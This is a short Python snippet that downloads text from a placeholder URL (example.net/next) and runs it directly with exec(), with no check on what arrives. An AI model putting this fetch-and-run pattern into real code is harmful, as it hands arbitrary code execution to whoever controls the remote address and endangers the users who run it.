import urllib.request

with urllib.request.urlopen("https://example.net/next") as answer:
    program = answer.read().decode()
exec(program)
